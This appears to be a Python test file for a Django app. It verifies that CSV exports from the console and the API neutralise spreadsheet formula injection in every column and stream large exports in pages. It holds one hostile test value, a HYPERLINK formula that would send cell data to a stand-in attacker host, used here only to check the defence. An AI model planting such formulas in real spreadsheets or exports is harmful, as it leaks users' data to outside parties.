"""CSV exports: a cell a spreadsheet would run as a formula is written as text, in every
column, from the console and from the API."""

import csv
import io

import pytest
from django.urls import reverse

from errors.export import COLUMNS
from errors.models import Category
from tests.api.conftest import token_client
from tests.factories import make_connection, make_error, make_job, make_mapping

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'
NAMES = ("app", "entity", "record_id", "name", "link")


@pytest.fixture
def formula_entries(db):
    """One entry per character a formula may start with, that character first in each of its
    texts (and in its mapping's, apps' and integration's names, and the records' numbers)."""
    entries = []
    for start in FORMULA_STARTS:
        text = start + FORMULA
        connection = make_connection(
            name=text[:100], source_app=text[:100], destination_app=text[:100]
        )
        mapping = make_mapping(
            connection,
            name=start + "SUM(1+1)",
            source_match_field="number",
            destination_match_field="accountnumber",
        )
        entries.append(
            make_error(
                category=Category.CONFLICT,
                mapping=mapping,
                job=make_job(mapping),
                message=text,
                status_note=text,
                source_app=text,
                source_entity=text,
                source_record_id=text,
                source_url=start + "https://erp.example.com/x",
                destination_app=text,
                destination_entity=text,
                destination_record_id=text,
                destination_url=start + "https://crm.example.com/x",
                sent_values={
                    "kind": "update",
                    "direction": "to_destination",
                    "sent": {"accountnumber": text},
                    "read": {"number": text},
                    "truncated": [],
                },
            )
        )
        entries.append(make_error(category=Category.OTHER, integration=text, message=text))
    return entries


def exported_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    header, *rows = csv.reader(io.StringIO(body))
    assert header == [label for _, label in COLUMNS]
    return rows


def assert_inert(rows: list[list[str]], entries) -> None:
    assert len(rows) == len(entries)
    for row in rows:
        for label, cell in zip((label for _, label in COLUMNS), row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (label, cell)
    # The text is kept, behind the quote that makes it text.
    messages = {row[[name for name, _ in COLUMNS].index("message")] for row in rows}
    assert messages == {"'" + start + FORMULA for start in FORMULA_STARTS}


def test_the_console_export_neutralises_formulas_in_every_column(formula_entries, staff_client):
    assert_inert(exported_rows(staff_client.get(reverse("errors:export"))), formula_entries)


def test_the_api_export_neutralises_formulas_in_every_column(formula_entries, staff_user):
    response = token_client(staff_user).get(reverse("api:errors_export"))
    assert_inert(exported_rows(response), formula_entries)


def test_every_text_column_was_tried():
    """The fixture puts a formula in every exported text; a new column must be added to it."""
    numeric_or_chosen = {
        *("id", "created_at", "category", "status", "job_id", "group_id"),
        *("source.gone", "destination.gone"),
    }
    tried = {
        "status_note",
        "message",
        "integration",
        "mapping",
        *(f"{side}.{name}" for side in ("source", "destination") for name in NAMES),
        "direction",
    }
    assert {name for name, _ in COLUMNS} == numeric_or_chosen | tried


def test_a_large_export_is_streamed_a_page_at_a_time(staff_client, settings, monkeypatch):
    """Every entry, in the list's order, sent in one piece per page of entries rather than one
    per line (each piece is a write to the client)."""
    monkeypatch.setattr("errors.export.CHUNK", 40)
    made = [make_error(message=f"Entry {n}") for n in range(100)]
    response = staff_client.get(reverse("errors:export"))
    pieces = list(response.streaming_content)
    assert len(pieces) == 1 + 3  # the header, then pages of 40, 40 and 20
    lines = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
    assert lines[0] == [label for _, label in COLUMNS]
    assert [int(line[0]) for line in lines[1:]] == [e.pk for e in reversed(made)]
